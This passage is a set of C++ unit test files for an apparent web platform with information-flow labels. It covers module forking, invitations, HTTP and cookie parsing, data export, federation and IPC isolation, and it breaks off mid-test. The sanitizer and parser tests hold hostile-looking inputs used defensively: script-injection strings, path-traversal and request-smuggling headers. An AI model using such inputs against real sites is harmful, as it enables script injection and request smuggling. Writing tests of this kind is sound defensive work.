  EXPECT_EQ(registry.resolve("devA", "crop", "1.0")->version, "1.0");
  EXPECT_EQ(registry.resolve("devA", "crop", "9.9"), nullptr);
  EXPECT_EQ(registry.resolve("devB", "crop"), nullptr);
  EXPECT_EQ(registry.resolve_id("devA/crop@1.0")->version, "1.0");
  EXPECT_EQ(registry.resolve_id("devA/crop")->version, "2.0");
  EXPECT_EQ(registry.resolve_id("garbage"), nullptr);
  EXPECT_EQ(registry.versions_of("devA", "crop").size(), 2u);
  EXPECT_EQ(registry.all().size(), 2u);
}

TEST(ModuleRegistryTest, RejectsInvalidModules) {
  ModuleRegistry registry;
  Module module;  // everything empty
  EXPECT_EQ(registry.add(module).error().code, "module.invalid");
}

TEST(ModuleRegistryTest, ForkRequiresOpenSource) {
  ModuleRegistry registry;
  const auto handler = [](AppContext&) { return net::HttpResponse(); };
  Module closed;
  closed.developer = "devA";
  closed.name = "secret";
  closed.version = "1.0";
  closed.handler = handler;
  ASSERT_TRUE(registry.add(closed).ok());
  EXPECT_EQ(registry.fork("devA/secret@1.0", "devB", "copy").error().code,
            "module.closed");

  Module open;
  open.developer = "devA";
  open.name = "crop";
  open.version = "1.0";
  open.manifest.open_source = true;
  open.manifest.source = "fn crop() { ... }";
  open.handler = handler;
  ASSERT_TRUE(registry.add(open).ok());
  auto fork = registry.fork("devA/crop@1.0", "devB", "bettercrop");
  ASSERT_TRUE(fork.ok());
  EXPECT_EQ(fork.value()->developer, "devB");
  EXPECT_EQ(fork.value()->forked_from, "devA/crop@1.0");
  // Fork imports its source: the §3.2 dependency graph sees the edge.
  EXPECT_EQ(fork.value()->manifest.imports.back(), "devA/crop@1.0");
  EXPECT_EQ(registry.fork("devA/nothere", "devB", "x").error().code,
            "module.not_found");
}

TEST(ModuleRegistryTest, FingerprintsDistinguishSource) {
  ModuleRegistry registry;
  const auto handler = [](AppContext&) { return net::HttpResponse(); };
  Module a;
  a.developer = "devA";
  a.name = "m";
  a.version = "1.0";
  a.manifest.open_source = true;
  a.manifest.source = "source A";
  a.handler = handler;
  Module b = a;
  b.version = "1.1";
  b.manifest.source = "source B";
  ASSERT_TRUE(registry.add(a).ok());
  ASSERT_TRUE(registry.add(b).ok());
  // The platform can prove which code a user audits (§2: "the code with
  // which a user is interacting is exactly the code that the user has
  // audited").
  EXPECT_NE(registry.resolve("devA", "m", "1.0")->fingerprint,
            registry.resolve("devA", "m", "1.1")->fingerprint);
}

TEST(ModuleRegistryTest, ContainersAreSharedPerPath) {
  ModuleRegistry registry;
  os::ResourceVector limits{.cpu_ticks = 10};
  auto* c1 = registry.container_for("devA/crop", limits);
  auto* c2 = registry.container_for("devA/crop", limits);
  auto* c3 = registry.container_for("devB/other", limits);
  EXPECT_EQ(c1, c2);
  EXPECT_NE(c1, c3);
  EXPECT_EQ(c1->name(), "app:devA/crop");
}

TEST(SanitizerTest, StripsScriptBlocks) {
  bool modified = false;
  EXPECT_EQ(strip_javascript("<p>hi</p><script>steal()</script><p>bye</p>",
                             &modified),
            "<p>hi</p><p>bye</p>");
  EXPECT_TRUE(modified);
  EXPECT_EQ(strip_javascript("<SCRIPT src='x.js'></SCRIPT>after"), "after");
  EXPECT_EQ(strip_javascript("<script>unterminated"), "");
}

TEST(SanitizerTest, StripsInlineHandlersAndJsUrls) {
  EXPECT_EQ(strip_javascript(R"html(<img src="x.png" onerror="steal()">)html"),
            R"html(<img src="x.png" >)html");
  EXPECT_EQ(strip_javascript(R"html(<a href="javascript:steal()">x</a>)html"),
            R"html(<a href="blocked:steal()">x</a>)html");
  EXPECT_EQ(
      strip_javascript(R"html(<div onclick=go onmouseover='hi'>t</div>)html"),
      R"html(<div  >t</div>)html");  // one space survives per stripped attr
}

TEST(SanitizerTest, LeavesCleanHtmlAlone) {
  bool modified = true;
  const std::string clean =
      R"(<html><body><p class="online">content</p></body></html>)";
  EXPECT_EQ(strip_javascript(clean, &modified), clean);
  EXPECT_FALSE(modified);
  // "online" inside an attribute *value* or text must not be eaten; only
  // attribute positions starting with "on" after whitespace are.
  EXPECT_EQ(strip_javascript("<p>only text</p>"), "<p>only text</p>");
}

}  // namespace
}  // namespace w5::platform
