// §1: "a prospective user can sign up simply by checking a box or
// 'accepting an invitation'" — the adoption flow, plus store pagination.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::Method;

class InvitationTest : public ::testing::Test {
 protected:
  InvitationTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    apps::register_standard_apps(provider_);
    ASSERT_TRUE(provider_.signup("dev-dana", "danapw").ok());
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    dana_ = provider_.login("dev-dana", "danapw").value();
    bob_ = provider_.login("bob", "bobpw").value();
  }

  util::SimClock clock_;
  Provider provider_;
  std::string dana_, bob_;
};

TEST_F(InvitationTest, FullInviteAcceptFlow) {
  // Dana invites bob to her (forked) app.
  ASSERT_TRUE(
      provider_.modules().fork("photoco/photos@1.0", "dana", "danaphotos")
          .ok());
  ASSERT_EQ(provider_.http(Method::kPost, "/invite",
                           "to=bob&app=dana/danaphotos", dana_).status,
            201);

  // Bob sees it pending.
  const auto pending = provider_.http(Method::kGet, "/invitations", "", bob_);
  EXPECT_EQ(pending.status, 200);
  EXPECT_NE(pending.body.find("dana/danaphotos"), std::string::npos);
  EXPECT_NE(pending.body.find(R"("accepted":false)"), std::string::npos);

  // Before accepting: no write grant, the app cannot save bob's photos.
  ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/p1",
                           R"({"title":"pre-existing","caption":"",
                               "rating":1,"pixels":[]})",
                           bob_).status,
            201);
  EXPECT_NE(provider_.http(Method::kPost,
                           "/dev/dana/danaphotos/caption?id=p1", "better!",
                           bob_).status,
            200);

  // Checking the box.
  ASSERT_EQ(provider_.http(Method::kPost, "/accept", "app=dana/danaphotos",
                           bob_).status,
            200);
  EXPECT_TRUE(provider_.policies().get("bob").grants_write("dana/danaphotos"));
  // The app serves bob's existing data immediately, with write access.
  EXPECT_EQ(provider_.http(Method::kPost,
                           "/dev/dana/danaphotos/caption?id=p1", "better!",
                           bob_).status,
            200);
  const auto after = provider_.http(Method::kGet, "/invitations", "", bob_);
  EXPECT_NE(after.body.find(R"("accepted":true)"), std::string::npos);
}

TEST_F(InvitationTest, ValidationAndPrivacy) {
  EXPECT_EQ(provider_.http(Method::kPost, "/invite",
                           "to=bob&app=photoco/photos").status,
            401);  // anonymous cannot invite
  EXPECT_EQ(provider_.http(Method::kPost, "/invite",
                           "to=ghost&app=photoco/photos", dana_).status,
            404);
  EXPECT_EQ(provider_.http(Method::kPost, "/invite",
                           "to=bob&app=no/such", dana_).status,
            404);
  EXPECT_EQ(provider_.http(Method::kPost, "/invite", "to=bob", dana_).status,
            400);
  EXPECT_EQ(provider_.http(Method::kPost, "/accept", "app=no/such", bob_)
                .status,
            404);

  // Invitations are the invitee's data: dana cannot list bob's.
  ASSERT_EQ(provider_.http(Method::kPost, "/invite",
                           "to=bob&app=photoco/photos", dana_).status,
            201);
  const auto danas = provider_.http(Method::kGet, "/invitations", "", dana_);
  EXPECT_EQ(danas.body.find("photoco/photos"), std::string::npos);
}

TEST(StorePaginationTest, OffsetCountsOnlyVisibleRows) {
  os::Kernel kernel;
  util::SimClock clock;
  store::LabeledStore store(kernel, clock);
  const auto hidden =
      kernel.create_tag(os::kKernelPid, "h", difc::TagPurpose::kSecrecy)
          .value();
  for (int i = 0; i < 10; ++i) {
    store::Record record;
    record.collection = "c";
    record.id = "r" + std::to_string(i);
    record.owner = "u";
    if (i % 2 == 1)  // odd rows hidden from the app
      record.labels = difc::ObjectLabels{difc::Label{hidden}, {}};
    record.data["n"] = i;
    ASSERT_TRUE(store.put(os::kKernelPid, std::move(record)).ok());
  }
  const auto app =
      kernel.spawn_trusted("app", difc::LabelState({}, {}, {}));
  // Visible rows are r0,r2,r4,r6,r8; page of 2 starting at offset 2.
  auto page = store.query(app, "c",
                          store::QueryOptions{.limit = 2, .offset = 2});
  ASSERT_TRUE(page.ok());
  ASSERT_EQ(page.value().size(), 2u);
  EXPECT_EQ(page.value()[0].id, "r4");
  EXPECT_EQ(page.value()[1].id, "r6");
  // Offset past the end yields empty, not an error.
  EXPECT_TRUE(store.query(app, "c", store::QueryOptions{.offset = 99})
                  .value().empty());
}

}  // namespace
}  // namespace w5::platform
