#include <gtest/gtest.h>

#include "net/cookies.h"
#include "net/http.h"
#include "net/http_parser.h"

namespace w5::net {
namespace {

TEST(HeadersTest, CaseInsensitiveAccessPreservingOrder) {
  Headers h;
  h.add("Content-Type", "text/html");
  h.add("X-Tag", "1");
  h.add("x-tag", "2");
  EXPECT_EQ(h.get("content-type"), "text/html");
  EXPECT_EQ(h.get("CONTENT-TYPE"), "text/html");
  EXPECT_EQ(h.get_all("X-TAG"), (std::vector<std::string>{"1", "2"}));
  h.set("x-tag", "3");
  EXPECT_EQ(h.get_all("X-Tag"), (std::vector<std::string>{"3"}));
  h.remove("X-tAg");
  EXPECT_FALSE(h.contains("x-tag"));
  EXPECT_EQ(h.size(), 1u);
}

TEST(HttpMessageTest, RequestWireFormat) {
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/dev/devA/crop";
  request.body = "payload";
  const std::string wire = request.to_wire();
  EXPECT_NE(wire.find("POST /dev/devA/crop HTTP/1.1\r\n"), std::string::npos);
  EXPECT_NE(wire.find("Host: w5.org\r\n"), std::string::npos);
  EXPECT_NE(wire.find("Content-Length: 7\r\n"), std::string::npos);
  EXPECT_TRUE(wire.ends_with("\r\npayload"));
}

TEST(HttpMessageTest, ResponseWireFormatAndHelpers) {
  const auto response = HttpResponse::json(201, R"({"ok":true})");
  const std::string wire = response.to_wire();
  EXPECT_TRUE(wire.starts_with("HTTP/1.1 201 Created\r\n"));
  EXPECT_NE(wire.find("Content-Type: application/json\r\n"),
            std::string::npos);
  EXPECT_NE(wire.find("Content-Length: 11\r\n"), std::string::npos);

  const auto redirect = HttpResponse::redirect("/login");
  EXPECT_EQ(redirect.status, 302);
  EXPECT_EQ(redirect.headers.get("Location"), "/login");
}

TEST(RequestParserTest, ParsesSimpleGet) {
  RequestParser parser;
  parser.feed("GET /photos?id=3 HTTP/1.1\r\nHost: w5.org\r\n\r\n");
  ASSERT_TRUE(parser.complete());
  const HttpRequest request = parser.take();
  EXPECT_EQ(request.method, Method::kGet);
  EXPECT_EQ(request.parsed.path, "/photos");
  EXPECT_EQ(query_get(request.parsed.query, "id"), "3");
  EXPECT_EQ(request.headers.get("Host"), "w5.org");
  EXPECT_TRUE(request.body.empty());
}

TEST(RequestParserTest, ParsesPostWithBody) {
  RequestParser parser;
  parser.feed(
      "POST /submit HTTP/1.1\r\nContent-Length: 11\r\n\r\nhello world");
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().body, "hello world");
}

TEST(RequestParserTest, IncrementalByteAtATime) {
  const std::string wire =
      "PUT /a HTTP/1.1\r\nContent-Length: 4\r\nX-K: v\r\n\r\nbody";
  RequestParser parser;
  for (char c : wire) {
    ASSERT_FALSE(parser.failed());
    parser.feed(std::string_view(&c, 1));
  }
  ASSERT_TRUE(parser.complete());
  const HttpRequest request = parser.take();
  EXPECT_EQ(request.method, Method::kPut);
  EXPECT_EQ(request.body, "body");
  EXPECT_EQ(request.headers.get("X-K"), "v");
}

TEST(RequestParserTest, SplitAtEveryBoundaryParsesIdentically) {
  // The reactor feeds the parser whatever read(2) returned, so a request
  // can split at any byte. Every two-chunk split must parse to the same
  // message as the one-shot feed — start line, headers, body, and the
  // exact consumed count at completion.
  const std::string wire =
      "POST /sub/mit?k=v HTTP/1.1\r\nHost: w5.org\r\nX-Trace: abc\r\n"
      "Content-Length: 9\r\n\r\nnine78byt";
  for (std::size_t split = 0; split <= wire.size(); ++split) {
    RequestParser parser;
    std::size_t consumed = parser.feed(std::string_view(wire).substr(0, split));
    ASSERT_FALSE(parser.failed()) << "split at " << split;
    consumed += parser.feed(std::string_view(wire).substr(split));
    ASSERT_TRUE(parser.complete()) << "split at " << split;
    EXPECT_EQ(consumed, wire.size()) << "split at " << split;
    const HttpRequest request = parser.take();
    EXPECT_EQ(request.method, Method::kPost);
    EXPECT_EQ(request.parsed.path, "/sub/mit");
    EXPECT_EQ(request.headers.get("X-Trace"), "abc");
    EXPECT_EQ(request.body, "nine78byt") << "split at " << split;
  }
}

TEST(RequestParserTest, PipelinedBackToBackRequestsInOneBuffer) {
  // Several complete requests in one buffer: each feed stops exactly at
  // its request boundary, and reset() + re-feed of the remainder yields
  // the next message with nothing lost or duplicated.
  std::string wire;
  for (int i = 0; i < 4; ++i) {
    const std::string body = "body" + std::to_string(i);
    wire += "POST /req/" + std::to_string(i) + " HTTP/1.1\r\n" +
            "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
            body;
  }
  RequestParser parser;
  std::string_view rest = wire;
  for (int i = 0; i < 4; ++i) {
    const std::size_t consumed = parser.feed(rest);
    ASSERT_TRUE(parser.complete()) << "request " << i;
    EXPECT_LE(consumed, rest.size());
    const HttpRequest request = parser.take();
    EXPECT_EQ(request.parsed.path, "/req/" + std::to_string(i));
    EXPECT_EQ(request.body, "body" + std::to_string(i));
    rest = rest.substr(consumed);
    parser.reset();
  }
  EXPECT_TRUE(rest.empty()) << "bytes left over after the last request";
}

TEST(RequestParserTest, PipelinedRequestsLeaveResidue) {
  const std::string two =
      "GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n";
  RequestParser parser;
  const std::size_t consumed = parser.feed(two);
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().parsed.path, "/a");
  // Second request parses from the residue.
  parser.feed(std::string_view(two).substr(consumed));
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().parsed.path, "/b");
}

TEST(RequestParserTest, ToleratesLeadingEmptyLines) {
  RequestParser parser;
  parser.feed("\r\n\r\nGET / HTTP/1.1\r\n\r\n");
  EXPECT_TRUE(parser.complete());
}

struct BadRequest {
  const char* wire;
  const char* expected_code;
};

class RequestParserRejects : public ::testing::TestWithParam<BadRequest> {};

TEST_P(RequestParserRejects, MalformedInput) {
  RequestParser parser;
  parser.feed(GetParam().wire);
  ASSERT_TRUE(parser.failed()) << GetParam().wire;
  EXPECT_EQ(parser.error().code, GetParam().expected_code);
}

INSTANTIATE_TEST_SUITE_P(
    Cases, RequestParserRejects,
    ::testing::Values(
        BadRequest{"BREW /pot HTTP/1.1\r\n\r\n", "http.unsupported"},
        BadRequest{"GET / HTTP/2\r\n\r\n", "http.unsupported"},
        BadRequest{"GET /\r\n\r\n", "http.parse"},
        BadRequest{"GET /a b HTTP/1.1\r\n\r\n", "http.parse"},
        BadRequest{"GET /../x HTTP/1.1\r\n\r\n", "http.parse"},
        BadRequest{"GET / HTTP/1.1\nHost: x\n\n", "http.parse"},  // bare LF
        BadRequest{"GET / HTTP/1.1\r\nNoColonHere\r\n\r\n", "http.parse"},
        BadRequest{"GET / HTTP/1.1\r\nBad : v\r\n\r\n", "http.parse"},
        BadRequest{"GET / HTTP/1.1\r\nA: 1\r\n folded\r\n\r\n", "http.parse"},
        BadRequest{"GET / HTTP/1.1\r\nContent-Length: xyz\r\n\r\n",
                   "http.parse"},
        BadRequest{
            "GET / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n",
            "http.parse"},
        BadRequest{"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",
                   "http.unsupported"}));

TEST(RequestParserTest, EnforcesBodyLimit) {
  RequestParser parser(ParserLimits{.max_body_bytes = 10});
  parser.feed("POST / HTTP/1.1\r\nContent-Length: 11\r\n\r\n");
  ASSERT_TRUE(parser.failed());
  EXPECT_EQ(parser.error().code, "http.too_large");
}

// Header-side overflows carry their own code ("http.headers_too_large",
// surfaced as 431) so they are distinguishable from oversized bodies
// ("http.too_large" → 413).
TEST(RequestParserTest, EnforcesLineLimit) {
  RequestParser parser(ParserLimits{.max_line_bytes = 32});
  parser.feed("GET /" + std::string(100, 'a') + " HTTP/1.1\r\n\r\n");
  ASSERT_TRUE(parser.failed());
  EXPECT_EQ(parser.error().code, "http.headers_too_large");
}

TEST(RequestParserTest, EnforcesHeaderCountLimit) {
  RequestParser parser(ParserLimits{.max_header_count = 3});
  std::string wire = "GET / HTTP/1.1\r\n";
  for (int i = 0; i < 5; ++i) wire += "H" + std::to_string(i) + ": v\r\n";
  wire += "\r\n";
  parser.feed(wire);
  ASSERT_TRUE(parser.failed());
  EXPECT_EQ(parser.error().code, "http.headers_too_large");
}

TEST(RequestParserTest, EnforcesTotalHeaderBytesLimit) {
  // Each line fits the per-line cap, but the block as a whole exceeds
  // max_headers_bytes — the slow-drip header attack the total cap stops.
  RequestParser parser(
      ParserLimits{.max_line_bytes = 128, .max_headers_bytes = 256});
  std::string wire = "GET / HTTP/1.1\r\n";
  for (int i = 0; i < 10; ++i)
    wire += "H" + std::to_string(i) + ": " + std::string(40, 'v') + "\r\n";
  wire += "\r\n";
  parser.feed(wire);
  ASSERT_TRUE(parser.failed());
  EXPECT_EQ(parser.error().code, "http.headers_too_large");
}

// parse_u64 is digits-only: a Content-Length smuggling a sign, hex, an
// inner space, or an empty value must be rejected, not silently coerced.
// (Leading/trailing OWS around the value is trimmed before parsing —
// that much is RFC-legal.)
TEST(RequestParserTest, RejectsNonCanonicalContentLength) {
  for (const std::string bad : {"+5", "-5", "0x5", "5 5", ""}) {
    RequestParser parser;
    parser.feed("POST / HTTP/1.1\r\nContent-Length: " + bad + "\r\n\r\n");
    ASSERT_TRUE(parser.failed()) << "Content-Length '" << bad << "'";
    EXPECT_EQ(parser.error().code, "http.parse") << bad;
  }
}

TEST(ResponseParserTest, ParsesResponse) {
  ResponseParser parser;
  parser.feed(
      "HTTP/1.1 404 Not Found\r\nContent-Length: 6\r\nX-A: b\r\n\r\nnope\r\n");
  ASSERT_TRUE(parser.complete());
  const HttpResponse response = parser.take();
  EXPECT_EQ(response.status, 404);
  EXPECT_EQ(response.body, "nope\r\n");
  EXPECT_EQ(response.headers.get("X-A"), "b");
}

TEST(ResponseParserTest, ReasonPhraseWithSpaces) {
  ResponseParser parser;
  parser.feed("HTTP/1.1 500 Internal Server Error\r\n\r\n");
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().status, 500);
}

TEST(ResponseParserTest, RejectsBadStatus) {
  ResponseParser parser;
  parser.feed("HTTP/1.1 bad OK\r\n\r\n");
  EXPECT_TRUE(parser.failed());
  ResponseParser parser2;
  parser2.feed("HTTP/1.1 42 Tiny\r\n\r\n");
  EXPECT_TRUE(parser2.failed());
}

TEST(WireRoundTrip, RequestSurvivesSerializeParse) {
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/dev/devB/label?v=2";
  request.headers.add("Cookie", "session=abc123");
  request.body = "name=value&x=y";
  RequestParser parser;
  parser.feed(request.to_wire());
  ASSERT_TRUE(parser.complete());
  const HttpRequest parsed = parser.take();
  EXPECT_EQ(parsed.method, request.method);
  EXPECT_EQ(parsed.target, request.target);
  EXPECT_EQ(parsed.body, request.body);
  EXPECT_EQ(parsed.headers.get("Cookie"), "session=abc123");
}

TEST(WireRoundTrip, ResponseSurvivesSerializeParse) {
  auto response = HttpResponse::html(200, "<p>hi</p>");
  response.headers.add("Set-Cookie", "session=tok; Path=/; HttpOnly");
  ResponseParser parser;
  parser.feed(response.to_wire());
  ASSERT_TRUE(parser.complete());
  const HttpResponse parsed = parser.take();
  EXPECT_EQ(parsed.status, 200);
  EXPECT_EQ(parsed.body, "<p>hi</p>");
  EXPECT_EQ(parsed.headers.get("Set-Cookie"),
            "session=tok; Path=/; HttpOnly");
}

TEST(CookieTest, ParsesHeader) {
  const auto cookies = parse_cookie_header("session=abc; theme=dark; x=\"q\"");
  ASSERT_EQ(cookies.size(), 3u);
  EXPECT_EQ(cookie_get(cookies, "session"), "abc");
  EXPECT_EQ(cookie_get(cookies, "theme"), "dark");
  EXPECT_EQ(cookie_get(cookies, "x"), "q");
  EXPECT_FALSE(cookie_get(cookies, "missing").has_value());
}

TEST(CookieTest, SkipsMalformedPairs) {
  const auto cookies =
      parse_cookie_header("good=1; =nameless; bare; bad name=2; ok=2");
  ASSERT_EQ(cookies.size(), 2u);
  EXPECT_EQ(cookie_get(cookies, "good"), "1");
  EXPECT_EQ(cookie_get(cookies, "ok"), "2");
}

TEST(CookieTest, SetCookieSerialization) {
  SetCookie cookie{.name = "session",
                   .value = "tok123",
                   .path = "/",
                   .max_age_seconds = 3600,
                   .http_only = true,
                   .secure = true};
  EXPECT_EQ(cookie.to_header(),
            "session=tok123; Path=/; Max-Age=3600; HttpOnly; Secure");
  SetCookie session_scoped{.name = "s", .value = "v", .http_only = false};
  EXPECT_EQ(session_scoped.to_header(), "s=v; Path=/");
}

TEST(CookieTest, SetCookieRejectsIllegalCharacters) {
  const SetCookie bad_name{.name = "bad name", .value = "v"};
  EXPECT_FALSE(bad_name.to_header().has_value());
  const SetCookie bad_value{.name = "n", .value = "semi;colon"};
  EXPECT_FALSE(bad_value.to_header().has_value());
  const SetCookie empty_name{.name = "", .value = "v"};
  EXPECT_FALSE(empty_name.to_header().has_value());
}

}  // namespace
}  // namespace w5::net
