// Data portability (§1): exporting your whole collection and leaving the
// platform — plus a three-provider mirroring chain.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "fed/node.h"

namespace w5::platform {
namespace {

using net::Method;

class PortabilityTest : public ::testing::Test {
 protected:
  PortabilityTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    apps::register_standard_apps(provider_);
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    ASSERT_TRUE(provider_.signup("amy", "amypw").ok());
    bob_ = provider_.login("bob", "bobpw").value();
    amy_ = provider_.login("amy", "amypw").value();
    ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/p1",
                             R"({"title":"one"})", bob_).status,
              201);
    ASSERT_EQ(provider_.http(Method::kPost, "/data/posts/b1",
                             R"({"title":"post","text":"hi"})", bob_).status,
              201);
    ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/a1",
                             R"({"title":"amy's"})", amy_).status,
              201);
  }

  util::SimClock clock_;
  Provider provider_;
  std::string bob_, amy_;
};

TEST_F(PortabilityTest, ExportReturnsAllOwnedRecordsAcrossCollections) {
  const auto dump = provider_.http(Method::kGet, "/export", "", bob_);
  ASSERT_EQ(dump.status, 200) << dump.body;
  EXPECT_NE(dump.body.find("\"one\""), std::string::npos);
  EXPECT_NE(dump.body.find("\"post\""), std::string::npos);
  // Never anyone else's data.
  EXPECT_EQ(dump.body.find("amy's"), std::string::npos);
  // Anonymous export: no.
  EXPECT_EQ(provider_.http(Method::kGet, "/export").status, 401);
}

TEST_F(PortabilityTest, DeleteAccountRemovesDataAndAccess) {
  const auto deleted =
      provider_.http(Method::kDelete, "/account", "", bob_);
  EXPECT_EQ(deleted.status, 200);
  EXPECT_NE(deleted.body.find("\"deleted_records\":2"), std::string::npos)
      << deleted.body;

  // Session dead, account gone, records gone; amy untouched.
  EXPECT_EQ(provider_.http(Method::kGet, "/whoami", "", bob_).body,
            R"({"user":null})");
  EXPECT_FALSE(provider_.login("bob", "bobpw").ok());
  EXPECT_FALSE(
      provider_.store().get(os::kKernelPid, "photos", "p1").ok());
  EXPECT_FALSE(provider_.store().get(os::kKernelPid, "posts", "b1").ok());
  EXPECT_TRUE(provider_.store().get(os::kKernelPid, "photos", "a1").ok());
  // The id can be reused (fresh tags, no access to the old data).
  EXPECT_TRUE(provider_.signup("bob", "newpw").ok());
}

TEST(FederationChainTest, ThreeProviderChainConvergesWithConsentPerHop) {
  util::SimClock clock;
  net::InMemoryNetwork network;
  Provider provider_a({.name = "A"}, clock);
  Provider provider_b({.name = "B"}, clock);
  Provider provider_c({.name = "C"}, clock);
  fed::Node node_a("A", provider_a, network);
  fed::Node node_b("B", provider_b, network);
  fed::Node node_c("C", provider_c, network);
  for (Provider* provider : {&provider_a, &provider_b, &provider_c})
    ASSERT_TRUE(provider->signup("bob", "pwd").ok());

  // Consent along the chain A↔B and B↔C, but NOT A↔C directly.
  node_a.mirrors().authorize("bob", "B");
  node_b.mirrors().authorize("bob", "A");
  node_b.mirrors().authorize("bob", "C");
  node_c.mirrors().authorize("bob", "B");

  util::Json data;
  data["title"] = "written on A";
  ASSERT_TRUE(node_a.put_user_record("bob", "photos", "p1", data).ok());

  // C cannot pull from A (no consent pair): sync simply has no users.
  auto direct = node_c.sync_from("A");
  ASSERT_TRUE(direct.ok());
  EXPECT_EQ(direct.value().applied, 0u);

  // But the chain works: B pulls from A, C pulls from B.
  ASSERT_TRUE(node_b.sync_from("A").ok());
  auto hop2 = node_c.sync_from("B");
  ASSERT_TRUE(hop2.ok());
  EXPECT_EQ(hop2.value().applied, 1u);
  EXPECT_EQ(provider_c.store()
                .get(os::kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "written on A");
  // Clocks carried through the chain: a re-pull anywhere is a no-op.
  EXPECT_EQ(node_b.sync_from("A").value().applied, 0u);
  EXPECT_EQ(node_c.sync_from("B").value().applied, 0u);
  EXPECT_EQ(node_a.sync_from("B").value().applied, 0u);
}

}  // namespace
}  // namespace w5::platform
