#include <gtest/gtest.h>

#include "os/ipc.h"

namespace w5::os {
namespace {

using difc::CapabilitySet;
using difc::Endpoint;
using difc::Label;
using difc::LabelState;
using difc::minus;
using difc::plus;
using difc::Tag;
using difc::TagPurpose;

class IpcTest : public ::testing::Test {
 protected:
  IpcTest() : bus_(kernel_) {
    secret_ = kernel_.create_tag(kKernelPid, "sec(bob)", TagPurpose::kSecrecy)
                  .value();
    // Standard W5 setup: anyone may raise to user secrecy (global t+).
    kernel_.add_global_capability(plus(secret_));
  }

  Kernel kernel_;
  IpcBus bus_;
  Tag secret_;
};

TEST_F(IpcTest, CleanProcessesExchangeMessages) {
  const Pid a = kernel_.spawn_trusted("a", LabelState({}, {}, {}));
  const Pid b = kernel_.spawn_trusted("b", LabelState({}, {}, {}));
  auto ch = bus_.connect_default(a, b);
  ASSERT_TRUE(ch.ok());
  ASSERT_TRUE(bus_.send(a, ch.value(), "hello").ok());
  EXPECT_EQ(bus_.pending(b, ch.value()), 1u);
  auto msg = bus_.receive(b, ch.value());
  ASSERT_TRUE(msg.ok());
  EXPECT_EQ(msg.value().payload, "hello");
  EXPECT_EQ(bus_.pending(b, ch.value()), 0u);
  // Empty queue reports ipc.empty.
  EXPECT_EQ(bus_.receive(b, ch.value()).error().code, "ipc.empty");
}

TEST_F(IpcTest, ContaminationPropagatesThroughReceive) {
  const Pid tainted =
      kernel_.spawn_trusted("tainted", LabelState({secret_}, {}, {}));
  const Pid clean = kernel_.spawn_trusted("clean", LabelState({}, {}, {}));
  auto ch = bus_.connect_default(tainted, clean);
  ASSERT_TRUE(ch.ok());
  ASSERT_TRUE(bus_.send(tainted, ch.value(), "secret bits").ok());
  auto msg = bus_.receive(clean, ch.value());
  ASSERT_TRUE(msg.ok());
  // Receiving the secret contaminated the receiver (auto-raise default).
  EXPECT_EQ(kernel_.find(clean)->labels.secrecy(), Label{secret_});
}

TEST_F(IpcTest, FixedEndpointRefusesContamination) {
  const Pid tainted =
      kernel_.spawn_trusted("tainted", LabelState({secret_}, {}, {}));
  const Pid clean = kernel_.spawn_trusted("clean", LabelState({}, {}, {}));
  auto ch = bus_.connect(
      tainted, Endpoint(Label{secret_}, {}),
      clean, Endpoint({}, {}, Endpoint::Mode::kFixed));
  ASSERT_TRUE(ch.ok());
  // Send fails: the receiver's fixed endpoint cannot admit the secrecy.
  const auto status = bus_.send(tainted, ch.value(), "secret");
  EXPECT_FALSE(status.ok());
  EXPECT_EQ(kernel_.find(clean)->labels.secrecy(), Label{});
}

TEST_F(IpcTest, DeclassifierExportsThroughCleanEndpoint) {
  // The declassifier holds sec(bob)-; its clean FIXED endpoint lets it
  // send to an uncontaminated peer even while itself contaminated.
  const Pid declassifier = kernel_.spawn_trusted(
      "declassifier",
      LabelState({secret_}, {}, CapabilitySet{minus(secret_)}));
  const Pid browser = kernel_.spawn_trusted("browser", LabelState({}, {}, {}));
  auto ch = bus_.connect(declassifier,
                         Endpoint({}, {}, Endpoint::Mode::kFixed), browser,
                         Endpoint({}, {}, Endpoint::Mode::kFixed));
  ASSERT_TRUE(ch.ok());
  ASSERT_TRUE(bus_.send(declassifier, ch.value(), "bob's photo").ok());
  auto msg = bus_.receive(browser, ch.value());
  ASSERT_TRUE(msg.ok());
  EXPECT_EQ(msg.value().payload, "bob's photo");
  // Browser stayed clean: the data was declassified, not smuggled.
  EXPECT_EQ(kernel_.find(browser)->labels.secrecy(), Label{});
}

TEST_F(IpcTest, MaliciousAppCannotExportThroughCleanEndpoint) {
  // Identical wiring, but the app lacks sec(bob)-. connect() itself
  // refuses: a clean fixed endpoint is unsafe for a contaminated owner.
  const Pid malicious =
      kernel_.spawn_trusted("malicious", LabelState({secret_}, {}, {}));
  const Pid accomplice =
      kernel_.spawn_trusted("accomplice", LabelState({}, {}, {}));
  auto ch = bus_.connect(malicious,
                         Endpoint({}, {}, Endpoint::Mode::kFixed), accomplice,
                         Endpoint({}, {}, Endpoint::Mode::kFixed));
  EXPECT_FALSE(ch.ok());
  EXPECT_EQ(ch.error().code, "endpoint.unsafe");
}

TEST_F(IpcTest, MaliciousAppCannotLaunderAfterConnect) {
  // App connects while clean, then contaminates itself, then tries to
  // relay the secret to a clean accomplice: send must fail.
  const Pid malicious =
      kernel_.spawn_trusted("malicious", LabelState({}, {}, {}));
  const Pid accomplice =
